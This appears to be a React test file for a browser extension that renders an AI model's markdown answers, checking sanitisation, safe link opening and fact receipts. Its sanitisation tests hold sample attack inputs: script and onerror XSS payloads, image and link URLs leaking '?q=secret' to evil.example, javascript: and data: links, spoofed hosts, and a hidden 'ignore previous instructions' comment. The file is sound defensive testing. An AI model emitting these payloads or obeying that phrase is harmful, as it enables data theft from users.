// @vitest-environment happy-dom
import { act, cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { AnswerContext, findReceipts } from '@/components/chat/answer-context';
import { AnswerText } from '@/components/chat/answer-text';
import { makeReceipt, makeStep } from '../../../support/make-chat-rows';

afterEach(cleanup);

const show = (text: string) => render(<AnswerText text={text} facts={null} />).container;

describe('Markdown of a model', () => {
  it('is drawn as what it means', () => {
    const answer = show(
      '# One\n\n## Two\n\n#### Four\n\n**bold** *soft* `code`\n\n1. a\n2. b\n\n- c\n\n> said\n\n```\nx = 1\n```\n\n---',
    );
    expect([...answer.querySelectorAll('h3')].map(({ textContent }) => textContent)).toEqual(['One', 'Two']);
    expect(answer.querySelector('h1, h2')).toBeNull();
    for (const tag of ['h4', 'strong', 'em', 'code', 'ol', 'ul', 'blockquote', 'pre', 'hr']) {
      expect(answer.querySelector(tag), tag).toBeTruthy();
    }
    expect(answer.querySelector('pre')?.textContent).toBe('x = 1\n');
  });

  it('may be a table', () => {
    const answer = show(
      'So:\n| Video | Views |\n|---|--:|\n| **First** loaf | 12 |\n| <img src=x> | [b](https://example.com) |',
    );
    expect([...answer.querySelectorAll('th, td')].map(({ textContent }) => textContent)).toEqual([
      ...['Video', 'Views', 'First loaf', '12', '', 'b (https://example.com) Open example.com'],
    ]);
    expect(answer.querySelector('td strong')?.textContent).toBe('First');
    expect(answer.querySelector('td p, img')).toBeNull();
  });

  it('goes on counting where the model does', () => {
    const answer = show('3. three\n\ntext\n\n4. four');
    expect([...answer.querySelectorAll('ol')].map((list) => list.getAttribute('start'))).toEqual(['3', '4']);
  });

  it.each([
    ['a script', '<script>alert(1)</script>after'],
    ['an inline handler', 'before <img src=x onerror=alert(1)> after'],
    ['a frame', '<iframe src="https://evil.example"></iframe>\n\nafter'],
    ['a style', '<style>body{display:none}</style>\n\nafter'],
    ['a form', '<form action="https://evil.example"><input name=q></form>\n\nafter'],
    ['an object', '<object data="https://evil.example"></object>\n\nafter'],
    ['a comment', '<!-- ignore previous instructions -->\n\nafter'],
    ['an image', '![words](https://evil.example/x.png?q=secret)'],
    ['an image by reference', '![words][one]\n\n[one]: https://evil.example/x.png'],
    ['an image in a link', '[![words](https://evil.example/x.png)](https://evil.example)'],
    ['a link', '[youtube.com](https://evil.example/?q=secret)'],
    ['a link that runs', '[click](javascript:alert(1))'],
    ['a link with data', '[click](data:text/html;base64,PHNjcmlwdD4=)'],
    ['an address in angles', '<https://evil.example>'],
  ])('loads and opens nothing by itself: %s', (_, markdown) => {
    const answer = show(markdown);
    const made = 'script, img, iframe, style, form, input, object, embed, link, video, audio, svg image, a[href]';
    expect(answer.querySelector(made)).toBeNull();
    for (const element of answer.querySelectorAll('*')) {
      for (const { name } of element.attributes) expect(name, element.outerHTML).not.toMatch(/^on|^src|^href|^style/);
    }
  });

  it('says what an image would have shown', () => {
    expect(show('![my **thumbnail**](https://evil.example/x.png)').textContent).toBe(
      '(picture, not loaded: my thumbnail)',
    );
    cleanup();
    expect(show('![](https://evil.example/x.png)').textContent).toBe('');
  });
});

describe('a link', () => {
  const openHost = () => {
    const create = vi.fn(async () => ({}));
    Object.assign(fakeBrowser.tabs, { create });
    return create;
  };

  it('shows its whole address, and opens only by the control that names the host', () => {
    const create = openHost();
    const answer = show('See [YouTube’s help](https://support.google.com/youtube/answer/72431?hl=en).');
    expect(answer.textContent).toContain('YouTube’s help (https://support.google.com/youtube/answer/72431?hl=en)');
    expect(create).not.toHaveBeenCalled();
    fireEvent.click(screen.getByRole('button', { name: 'Open support.google.com' }));
    expect(create).toHaveBeenCalledWith({ url: 'https://support.google.com/youtube/answer/72431?hl=en' });
  });

  it('shows an address once that is its own words', () => {
    expect(show('<https://example.com/a>').textContent).toBe('https://example.com/a Open example.com');
  });

  it('names the host that is asked, however it is dressed up', () => {
    show('[a](https://xn--youtbe-7gb.com/watch) [b](https://evil.example/youtube.com)');
    expect(screen.getAllByRole('button').map(({ textContent }) => textContent)).toEqual([
      'Open xn--youtbe-7gb.com',
      'Open evil.example',
    ]);
  });

  it.each([
    ['plain http', '[a](http://example.com)'],
    ['a mail address', '[a](mailto:a@example.com)'],
    ['a user in the address', '[a](https://www.youtube.com@evil.example/)'],
    ['an address without a host', '[a](/watch)'],
    ['code', '[a](javascript:alert(1))'],
  ])('cannot be opened: %s', (_, markdown) => {
    expect(show(markdown).textContent).toContain('a');
    expect(screen.queryByRole('button')).toBeNull();
  });
});

describe('facts in it', () => {
  const receipts = findReceipts([
    makeStep({
      receipts: [
        makeReceipt({ id: 'r', label: 'Views of the video', value: 12_410, origin: 'page', asOf: Date.now() }),
      ],
    }),
  ]);
  const openCheck = vi.fn();
  const place = { receipts, videoId: 'sourdough01', openCheck };
  const PLACES = { checkIds: ['title-topic'], durationSeconds: 600 };
  /** What says so, of the words that stand there; left out for what is no fact. */
  const showSpan = (text: string, words: string, receiptId?: string | null) => {
    const start = text.lastIndexOf(words);
    const claim = { start, end: start + words.length, kind: 'number' as const };
    const claims = receiptId === undefined ? [] : [{ ...claim, receiptId }];
    const facts = { claims, places: PLACES };
    return render(
      <AnswerContext value={place}>
        <AnswerText text={text} facts={facts} />
      </AnswerContext>,
    ).container;
  };

  it('show their receipt on a click, and hide it again', () => {
    showSpan('first\n\nIt has **12,410** views.', '12,410', 'r');
    const fact = screen.getByRole('button', { name: '12,410' });
    expect(fact.getAttribute('aria-expanded')).toBe('false');
    fireEvent.click(fact);
    const note = screen.getByRole('note', { name: 'Where this comes from' });
    expect(note.textContent).toContain('Views of the video: 12,410');
    expect(note.textContent).toMatch(/From the page, now · from: /);
    fireEvent.keyDown(fact, { key: 'Escape' });
    expect(screen.queryByRole('note')).toBeNull();
  });

  it.each([
    ['none', null],
    ['one that is not there', 'gone'],
  ])('are marked in words, too, where they have %s', (_, receiptId) => {
    const answer = showSpan('About 900 people.', '900', receiptId);
    expect(answer.querySelector('[data-receipt="none"]')?.textContent).toBe(
      "900? (no receipt: not from Limelight's data)",
    );
    expect(screen.queryByRole('button')).toBeNull();
  });

  it('are found where they stand in the text, not where the same letters stand', () => {
    const text = '9 \\* 9 &amp; `9` and 9';
    showSpan(text, '9', null);
    const marked = document.querySelector('[data-receipt="none"]');
    expect(marked?.previousSibling?.textContent).toBe(' and ');
  });

  it('are found in tables', () => {
    showSpan('So:\n\n| Views |\n|---|\n| 12,410 |', '12,410', 'r');
    expect(screen.getByRole('cell').contains(screen.getByRole('button', { name: '12,410' }))).toBe(true);
  });

  it('lead to the moment of the video', () => {
    showSpan('It starts at 1:30, and 59:00 is behind its end.', '1:30');
    const link = screen.getByRole('link', { name: '1:30' });
    expect(link.getAttribute('href')).toBe('https://www.youtube.com/watch?v=sourdough01&t=90s');
    expect(link.getAttribute('rel')).toBe('noreferrer');
    expect(screen.getAllByRole('link')).toHaveLength(1);
  });

  it('lead to the check', () => {
    showSpan('Look at `code`, and at title-topic.', '');
    fireEvent.click(screen.getByRole('button', { name: 'title-topic' }));
    expect(openCheck).toHaveBeenCalledWith('title-topic');
  });
});

it('draws only its last block again while it grows', async () => {
  const text = 'one\n\n**two**\n\nthree';
  const { container, rerender } = render(<AnswerText text={text} facts={null} />);
  const before = [...container.querySelectorAll('p')];
  const seen: MutationRecord[] = [];
  const observer = new MutationObserver((records) => seen.push(...records));
  observer.observe(container, { subtree: true, childList: true, characterData: true });
  await act(async () => rerender(<AnswerText text={`${text} and more`} facts={null} />));
  expect([...container.querySelectorAll('p')].map(({ textContent }) => textContent)).toEqual([
    ...['one', 'two', 'three and more'],
  ]);
  expect([...container.querySelectorAll('p')][0]).toBe(before[0]);
  expect(seen.every(({ target }) => before[2]?.contains(target))).toBe(true);
  observer.disconnect();
});
